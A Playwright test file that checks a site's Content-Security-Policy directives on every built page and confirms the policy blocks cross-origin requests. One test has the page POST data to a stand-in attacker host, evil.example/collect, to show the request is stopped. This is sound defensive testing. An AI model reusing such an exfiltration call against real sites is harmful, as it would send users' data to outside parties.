import { routes } from '../../src/lib/shared/routes.ts';
import { test, expect, apiLogin, openWithToken, hydrated } from './fixtures.ts';

/**
 * The built pages' meta Content-Security-Policy: everything from the site itself unless a directive
 * says otherwise, requests only to the site (no analytics host in a build without a site id), forms
 * only to the site. The fixture fails a test on any violation, so the pages are also opened and
 * used under the policy, logged in too.
 */

/** The directives of a policy, by name. */
function directives(policy: string): Map<string, string[]> {
  const parsed = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) parsed.set(name.toLowerCase(), values);
  }
  return parsed;
}

const pages = [
  ...routes.filter((route) => route.layout !== 'redirect').map((route) => route.path),
  '/missing-page',
];

test('every built page limits defaults, requests and forms to the site itself', async ({ page }) => {
  for (const path of pages) {
    await page.goto(path);
    const policy = await page.locator('meta[http-equiv="content-security-policy" i]').getAttribute('content');
    expect(policy, `${path} has a CSP meta element`).toBeTruthy();
    const parsed = directives(policy!);
    expect(parsed.get('default-src'), `${path} default-src`).toEqual(["'self'"]);
    expect(parsed.get('connect-src'), `${path} connect-src`).toEqual(["'self'"]);
    expect(parsed.get('form-action'), `${path} form-action`).toEqual(["'self'"]);
    expect(parsed.get('object-src'), `${path} object-src`).toEqual(["'none'"]);
    expect(parsed.get('base-uri'), `${path} base-uri`).toEqual(["'none'"]);
    expect(parsed.get('script-src')?.join(' '), `${path} script-src`).not.toMatch(
      /unsafe-inline|unsafe-eval|\*/,
    );
  }
});

test('the policy blocks a request to another origin', async ({ page, cspViolations }) => {
  await page.goto('/basic/portal');
  await hydrated(page);
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://evil.example/collect', { method: 'POST', body: 'x' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(outcome).toBe('blocked');
  await expect.poll(() => cspViolations.map((violation) => violation.directive)).toContain('connect-src');
  // The violation was the point of this test; the fixture checks that nothing else was reported.
  const others = cspViolations.filter((violation) => !String(violation.blocked).includes('evil.example'));
  cspViolations.length = 0;
  cspViolations.push(...others);
});

test('the notice dropdown, fetched on demand, runs under the policy without a violation', async ({
  page,
  request,
}) => {
  // Every route, logged out and logged in, is opened under the policy by tests/e2e/site-crawl.spec.ts.
  const token = await apiLogin(request);
  await openWithToken(page, token, '/basic/portal');
  await page.getByRole('button', { name: /^通知/ }).click();
  await expect(page.getByRole('region', { name: '通知中心' }).getByRole('tab')).toHaveCount(3);
});
